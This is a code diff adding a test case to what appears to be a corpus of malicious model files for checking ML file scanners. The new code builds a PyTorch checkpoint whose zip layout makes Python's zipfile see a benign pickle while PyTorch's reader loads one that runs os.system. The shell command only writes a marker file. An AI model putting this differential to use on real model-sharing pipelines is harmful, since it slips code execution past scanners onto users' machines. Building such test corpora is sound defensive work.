@@ -156,6 +156,40 @@ def _torch_zip_classic(marker: Path) -> bytes:
     return buf.getvalue()
 
 
+def _zip_parts(pkl: bytes) -> tuple[bytes, bytes, bytes]:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("archive/data.pkl", pkl)
+        z.writestr("archive/version", "3\n")
+    data = buf.getvalue()
+    end = data.rfind(b"PK\x05\x06")
+    cd_size, cd_offset = struct.unpack_from("<II", data, end + 12)
+    return data[:cd_offset], data[cd_offset : cd_offset + cd_size], data[end:]
+
+
+def torch_zipfile_differential(evil: bytes, benign: bytes) -> bytes:
+    """A file that ``zipfile`` reads as one archive and PyTorch's reader (miniz) as another.
+
+    Layout: [evil members][evil central directory][benign members][benign central directory]
+    [end record whose central-directory offset points at the EVIL directory]. zipfile sees the
+    directory is not where the record says, shifts every offset by the gap and reads the benign
+    archive; miniz uses the offsets as written and loads the evil ``data.pkl``."""
+    n = max(len(evil), len(benign))
+    evil, benign = evil.ljust(n, b" "), benign.ljust(n, b" ")  # bytes after STOP are ignored
+    ev_local, ev_cd, _ = _zip_parts(evil)
+    bn_local, bn_cd, bn_end = _zip_parts(benign)
+    end = bytearray(bn_end)
+    struct.pack_into("<I", end, 16, len(ev_local))
+    return ev_local + ev_cd + bn_local + bn_cd + bytes(end)
+
+
+def _torch_zip_cd_shift(marker: Path) -> bytes:
+    import pickle
+
+    evil = proto0_call("os", "system", _shell(marker))
+    return torch_zipfile_differential(evil, pickle.dumps({"w": 1}, protocol=2))
+
+
 def _remote_code_dir(root: Path, marker: Path) -> None:
     # config.json's auto_map makes transformers import modeling_evil.py (trust_remote_code).
     root.mkdir(parents=True, exist_ok=True)
@@ -208,6 +242,10 @@ _FILES: list[tuple[Attack, Callable[[Path], bytes]]] = [
     (Attack("joblib legacy ZF container", "legacy.pkl", "joblib", "format"), _joblib_legacy_zfile),
     (Attack("npy descr 'object'", "obj_word.npy", "numpy", "parser"), _npy_object_spelled_out),
     (Attack("npy descr 'i4,O'", "obj_comma.npy", "numpy", "parser"), _npy_object_in_comma_string),
+    (
+        Attack("torch reader and zipfile see different archives", "cd_shift.pt", "torch", "parser"),
+        _torch_zip_cd_shift,
+    ),
     (
         Attack("control: os.system in a torch zip", "classic.pt", "torch", "control"),
         _torch_zip_classic,
